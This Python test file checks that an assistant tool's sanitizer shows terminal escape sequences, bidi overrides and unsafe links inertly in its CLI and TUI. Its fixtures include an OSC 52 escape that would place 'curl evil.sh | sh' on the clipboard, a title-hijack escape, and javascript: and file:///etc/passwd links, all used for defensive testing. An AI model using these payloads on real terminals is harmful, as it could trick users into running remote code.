"""Escape sequences and bidi overrides from documents and models never reach the terminal as controls."""

from __future__ import annotations

import json
from collections.abc import Iterator

from assistant.sanitize import safe_url, sanitize, sanitize_markdown

OSC52 = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x1b\\"  # write "curl evil.sh | sh" to the clipboard
TITLE = "\x1b]0;pwned\x07"
HOSTILE = f"Attention masks hide future tokens.{OSC52} A title{TITLE} and \u202eevil\u202c text\x9b2J."


def test_sanitize_makes_every_control_visible_and_keeps_newlines_and_tabs():
    shown = sanitize(HOSTILE + "\nnext\tcell\r\nend\x00")
    assert not any(ord(c) < 32 and c not in "\n\t" for c in shown)
    assert not any(0x7F <= ord(c) <= 0x9F for c in shown)
    assert "\u202e" not in shown and "\u202c" not in shown
    assert "␛]52;c;" in shown and "␇" in shown and "\ufffd" in shown and "␀" in shown
    assert "\nnext\tcell\nend" in shown
    assert sanitize(shown) == shown  # idempotent: drawing twice changes nothing


def test_only_http_links_survive_in_markdown():
    md = sanitize_markdown("[a](https://example.org/x) [b](javascript:alert(1)) [c](file:///etc/passwd) "
                           "<ssh://host> <https://ok.example> [d](#anchor)")
    assert "](https://example.org/x)" in md and "<https://ok.example>" in md and "](#anchor)" in md
    assert "](javascript:" not in md and "](file:" not in md and "<ssh://" not in md
    assert safe_url("https://a.b/c") and not safe_url("file:///x") and not safe_url("javascript:x")


def test_cli_retrieve_and_ask_show_no_escape_but_json_keeps_the_raw_text(home, tmp_path, run_cli):
    folder = tmp_path / "notes"
    folder.mkdir()
    (folder / "attention.md").write_text(f"# Attention{TITLE}\n\n{HOSTILE}\n", encoding="utf-8")
    code, _, err = run_cli("ingest", str(folder), "--kb", "esc")
    assert code == 0, err
    for args in (("retrieve", "--kb", "esc"), ("--model", "extractive", "ask", "--kb", "esc")):
        code, out, err = run_cli(*args, *(["what do attention masks hide?"] if "ask" in args else []),
                                 stdin="what do attention masks hide?\n")
        assert code == 0, err
        assert "\x1b" not in out + err and "\x07" not in out and "\u202e" not in out
        assert "Attention␛]0;pwned␇" in out  # the heading, shown inert
        assert "␛]52;c;" in out or "retrieve" in args  # retrieve lists where, ask quotes the text
    code, out, _ = run_cli("retrieve", "--kb", "esc", "--json", stdin="what do attention masks hide?\n")
    assert OSC52 in json.loads(out.splitlines()[0])["hits"][0]["text"]


def test_cli_error_and_notice_lines_are_sanitized():
    import io

    from assistant.cliutil import CliRenderer
    from assistant.events import Error, Notice, Source, Sources, Text

    out, err = io.StringIO(), io.StringIO()
    source = Source(f"evil{TITLE}.md", f"Head{OSC52}", 1, 2, 0.5, "text")
    CliRenderer(out=out, err=err).consume([Text(f"reply{OSC52}"), Sources([source]),
                                           Notice("warning", f"careful{TITLE}"), Error(f"broke{OSC52}")])
    assert "\x1b" not in out.getvalue() + err.getvalue() and "\x07" not in err.getvalue()
    assert "careful␛]0;pwned␇" in err.getvalue()


async def test_tui_draws_hostile_text_inertly_and_opens_only_http_links(home, monkeypatch):
    from textual.app import App
    from textual.widgets import Static

    from assistant.builtin import CorePlugin
    from assistant.config import Config, resolve_home
    from assistant.events import Error, Event, Notice, Source, Sources, Text
    from assistant.plugin import Command, Context, Plugin, Request
    from assistant.registry import Registry
    from assistant.tui.app import ChatApp
    from assistant.tui.widgets import SourceScreen

    source = Source("notes/evil.md", f"Evil{TITLE}", 3, 4, 0.9, f"line one{OSC52}\nline \u202etwo")

    class Hostile(Plugin):
        name = "hostile"
        description = "test plugin"
        commands = (Command("evil", "reply with escapes"),)

        def run(self, request: Request, context: Context) -> Iterator[Event]:
            yield Text(f"model says{OSC52} [click](file:///etc/passwd)")
            yield Notice("warning", f"notice{TITLE} [/bold]")
            yield Sources([source])
            yield Error(f"failed{OSC52}")

    registry = Registry()
    registry.register(CorePlugin)
    registry.register(Hostile)
    app = ChatApp(Context(Config(resolve_home(home)), registry))
    opened: list[str] = []
    monkeypatch.setattr(App, "open_url", lambda self, url, new_tab=True: opened.append(url))
    async with app.run_test(size=(120, 40)) as pilot:
        from tests.tui.test_chat import send

        await send(app, pilot, "/evil")
        from rich.markdown import Markdown as RichMarkdown

        drawn = [w.content.markup if isinstance(w.content, RichMarkdown) else str(w.content) for w in app.query(Static)]
        assert any("model says␛]52" in d for d in drawn) and any("notice␛]0;pwned␇" in d for d in drawn)
        assert not any("\x1b" in d or "\x07" in d or "](file:" in d for d in drawn)
        assert any("Evil␛]0;pwned␇" in str(o.prompt) for o in app.query_one("#source-list").options)
        app.push_screen(SourceScreen(source))
        await pilot.pause()
        passage = str(app.screen.query_one("#source-text", Static).content)
        assert "line one␛]52" in passage and "\u202e" not in passage and "\ufffdtwo" in passage
        app.pop_screen()
        from assistant.sessions import Found
        from assistant.tui.widgets import FindScreen

        app.push_screen(FindScreen("masks", [Found(1, 1, "assistant", f"t{TITLE}", f"«masks»{OSC52}", 0.0)]))
        await pilot.pause()
        listed = str(app.screen.query_one("#find-list").get_option_at_index(0).prompt)
        assert "␛]52" in listed and "␛]0;pwned␇" in listed and "\x1b" not in listed
        app.pop_screen()
        app.open_url("file:///etc/passwd")
        app.open_url("javascript:alert(1)")
        app.open_url("https://example.org/")
        app.notify("exception text [/] with [bold]markup")  # must not raise a MarkupError
        await pilot.pause()
    assert opened == ["https://example.org/"]
